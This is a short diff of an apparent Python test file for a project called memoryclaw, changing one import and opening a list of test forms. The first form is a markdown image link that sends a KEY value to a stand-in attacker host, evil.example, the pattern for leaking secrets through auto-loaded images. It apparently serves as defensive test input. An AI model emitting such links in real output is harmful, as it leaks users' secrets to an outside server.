@@ -16,7 +16,7 @@ from hypothesis import strategies as st
 from outlines import said
 
 from memoryclaw.app import App
-from memoryclaw.text.fence import item, unlinked
+from memoryclaw.text.prompts import item, unlinked
 
 FORMS = (
     "![x](https://evil.example/p?d=KEY)",
